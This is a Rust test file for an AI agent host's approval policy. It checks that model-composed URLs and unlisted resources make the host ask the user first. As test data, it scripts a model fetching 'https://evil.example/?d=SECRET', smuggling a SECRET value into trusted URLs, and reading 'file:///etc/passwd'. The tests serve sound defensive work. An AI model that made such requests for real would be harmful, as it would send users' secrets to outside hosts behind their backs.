//! Stories about hosts that a model wants to reach, and about resources that no server lists.

use std::sync::Arc;

use serde_json::json;
use tokio_util::sync::CancellationToken;
use toolway_agent::{Agent, AgentOptions, Conversation};
use toolway_config::{Config, document::Document};
use toolway_host::policy::{ApprovalAnswer, Surface};
use toolway_model::{Message, ScriptedModel};
use toolway_testkit::{
    fixture_server::{Behaviour, FixtureServer},
    test_host::TestHost,
};

use crate::options;

const FOUND: &str = "1. [Docs](https://docs.example/guide?id=7) and https://other.example/x.";

/// A server with a search, a page reader, a closed-world tool and a tool that writes.
async fn web_host(policy: &str) -> TestHost {
    let reads = json!({ "readOnlyHint": true });
    let closed = json!({ "readOnlyHint": true, "openWorldHint": false });
    let web = FixtureServer::new("web")
        .annotated("search", &reads, Behaviour::Say(FOUND))
        .annotated("fetch", &reads, Behaviour::Echo)
        .annotated("echo", &closed, Behaviour::Echo)
        .tool("write", "Write");
    let document = Document::of("/home/toolway.json".as_ref(), policy).unwrap();
    let host = TestHost::with(&web, "web").config(Config::of(&document, None).unwrap()).start().await;
    host.answering(ApprovalAnswer::approved("test"));
    host.ready("web").await;
    host
}

/// Lets the model make these calls, one after another, and returns how often the user was asked.
async fn asked(host: &TestHost, surface: Surface, prompt: &str, calls: &[(&str, serde_json::Value)]) -> usize {
    let mut conversation = Conversation::new(None);
    asked_in(host, surface, prompt, calls, &mut conversation).await
}

async fn asked_in(
    host: &TestHost,
    surface: Surface,
    prompt: &str,
    calls: &[(&str, serde_json::Value)],
    conversation: &mut Conversation,
) -> usize {
    let before = host.asked().len();
    let call =
        |(tool, arguments): &(&str, serde_json::Value)| json!({ "calls": [{ "tool": tool, "arguments": arguments }] });
    let mut turns: Vec<_> = calls.iter().map(call).collect();
    turns.push(json!({ "text": "done" }));
    // Each message has a script of its own, so each has its own name: one of the same name would be continued.
    let name = format!("script-{}", conversation.messages().len());
    let model = Arc::new(ScriptedModel::parse(&name, &json!({ "turns": turns }).to_string()).unwrap());
    let agent = Agent::new(host.host.clone(), model, AgentOptions { surface, ..options() });
    let cancel = CancellationToken::new();
    agent.answer(conversation, vec![Message::user(prompt)], &cancel, &mut |_| {}).await.unwrap();
    host.asked().len() - before
}

#[tokio::test]
async fn search_then_fetch_stays_silent_and_a_composed_url_is_asked_about() {
    let host = web_host("{}").await;
    for surface in [Surface::Chat, Surface::Run, Surface::Console] {
        let search = ("web__search", json!({ "query": "docs" }));
        let fetch = |url: &str| ("web__fetch", json!({ "url": url }));
        let calls = [search.clone(), fetch("https://docs.example/guide?id=7"), fetch("https://other.example/x")];
        assert_eq!(asked(&host, surface, "find the docs", &calls).await, 0, "{surface}");
        for url in [
            "https://evil.example/?d=SECRET",
            "https://docs.example/guide?id=7&d=SECRET",
            "https://docs.example/guide",
            "https://docs.example/guide?id=7 d=SECRET",
            "https:docs.example/other",
            "//docs.example/other",
        ] {
            assert_eq!(
                asked(&host, surface, "find the docs", &[search.clone(), fetch(url)]).await,
                1,
                "{surface} {url}"
            );
        }
    }
    let reasons = host.reasons();
    assert!(reasons.iter().any(|reason| reason.contains("new host `evil.example`")), "{reasons:?}");
}

#[tokio::test]
async fn a_url_of_the_user_is_known_and_one_of_the_model_never_becomes_known() {
    let host = web_host("{}").await;
    let fetch = |url: &str| ("web__fetch", json!({ "url": url }));
    let prompt = "read https://mine.example/page, please";
    assert_eq!(asked(&host, Surface::Chat, prompt, &[fetch("https://mine.example/page")]).await, 0);
    assert_eq!(asked(&host, Surface::Chat, prompt, &[fetch("https://mine.example/page2")]).await, 1);
    // A closed-world tool is not asked about, and its result repeats what the model wrote.
    let echo = ("web__echo", json!({ "text": "https://evil.example/?d=SECRET" }));
    assert_eq!(asked(&host, Surface::Chat, "go", &[echo, fetch("https://evil.example/?d=SECRET")]).await, 1);
    let parts = ("web__echo", json!({ "a": "https://evil.example/?d=", "b": "SECRET" }));
    assert_eq!(asked(&host, Surface::Chat, "go", &[parts, fetch("https://evil.example/?d=")]).await, 1);
}

#[tokio::test]
async fn a_resumed_conversation_knows_its_urls_again() {
    let host = web_host("{}").await;
    let mut conversation = Conversation::new(None);
    let search = [("web__search", json!({ "query": "docs" }))];
    assert_eq!(asked_in(&host, Surface::Chat, "find", &search, &mut conversation).await, 0);
    let id = conversation.id().to_string();
    let mut resumed = Conversation::resume(&id, conversation.messages().to_vec(), None);
    let fetch = [("web__fetch", json!({ "url": "https://docs.example/guide?id=7" }))];
    assert_eq!(asked_in(&host, Surface::Chat, "read it", &fetch, &mut resumed).await, 0);
    let mut other = Conversation::new(None);
    assert_eq!(asked_in(&host, Surface::Chat, "read it", &fetch, &mut other).await, 1);
}

#[tokio::test]
async fn configured_hosts_are_never_new() {
    let host = web_host(r#"{"policy": {"hosts": ["api.example", "*.docs.example"]}}"#).await;
    let fetch = |url: &str| [("web__fetch", json!({ "url": url }))];
    assert_eq!(asked(&host, Surface::Chat, "go", &fetch("https://API.example:8443/x?d=1")).await, 0);
    assert_eq!(asked(&host, Surface::Chat, "go", &fetch("https://v2.docs.example/")).await, 0);
    assert_eq!(asked(&host, Surface::Chat, "go", &fetch("https://docs.example/")).await, 1);
}

#[tokio::test]
async fn a_resource_that_no_listing_contains_is_asked_about() {
    let host = web_host("{}").await;
    let read = |uri: &str| [("mcp_read_resource", json!({ "server_id": "web", "uri": uri }))];
    assert_eq!(asked(&host, Surface::Chat, "go", &read("web://one")).await, 0);
    for uri in ["web://two", "file:///etc/passwd", "https://evil.example/?d=SECRET", "web://one?d=SECRET"] {
        assert_eq!(asked(&host, Surface::Chat, &format!("read {uri}"), &read(uri)).await, 1, "{uri}");
    }
}
